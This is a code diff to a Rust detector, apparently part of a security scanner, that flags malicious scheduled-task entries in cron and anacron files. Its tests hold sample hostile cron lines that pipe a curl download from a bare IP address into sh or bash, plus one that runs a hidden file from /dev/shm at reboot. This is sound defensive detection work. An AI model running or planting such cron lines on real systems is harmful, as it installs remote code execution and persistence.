@@ -8,13 +8,10 @@
 //! - False alarms: home-made update jobs that pipe a download into a shell (a sign).
 //! - Source: crontab(5), anacrontab(5); ATT&CK T1053.003.
 
-use model::{Category, Confidence, Maturity, Severity, Weight};
+use model::{Category, Confidence, FileKind, Maturity, Severity, Weight};
 
 use super::{About, Detector, Match, Sample, Scope};
-use crate::{
-    Place,
-    shell::{startup, text},
-};
+use crate::{Place, shell::startup};
 
 pub(super) const DETECTOR: Detector = Detector {
     about: About {
@@ -24,7 +21,7 @@ pub(super) const DETECTOR: Detector = Detector {
         weight: Weight::Proof,
         severity: Severity::High,
         confidence: Confidence::High,
-        maturity: Maturity::Draft,
+        maturity: Maturity::Stable,
         techniques: &["T1053.003"],
     },
     scope: Scope::Place(is_schedule),
@@ -32,7 +29,7 @@ pub(super) const DETECTOR: Detector = Detector {
 };
 
 fn is_schedule(place: &Place<'_>) -> bool {
-    text::TEXT_KINDS.contains(&place.kind)
+    place.kind != FileKind::Elf
         && (place.path.starts_with("etc/cron")
             || place.path == "etc/anacrontab"
             || place.path.starts_with("var/spool/cron/"))
@@ -74,6 +71,12 @@ mod tests {
             "var/spool/cron/crontabs/root",
             b"*/5 * * * * curl -fsSL http://198.51.100.7/u.sh | sh\n",
             &["fetches and runs http://198.51.100.7/u.sh from a bare address"],
+        );
+        check(
+            &DETECTOR,
+            "etc/cron.d/backup",
+            b"* * * * * root curl -fsSL http://203.0.113.7/b.sh | bash >/dev/null 2>&1\n",
+            &["fetches and runs http://203.0.113.7/b.sh from a bare address"],
         );
         check(&DETECTOR, "etc/cron.d/x", b"@reboot root /dev/shm/.k\n", &["runs /dev/shm/.k from a temporary folder"]);
     }
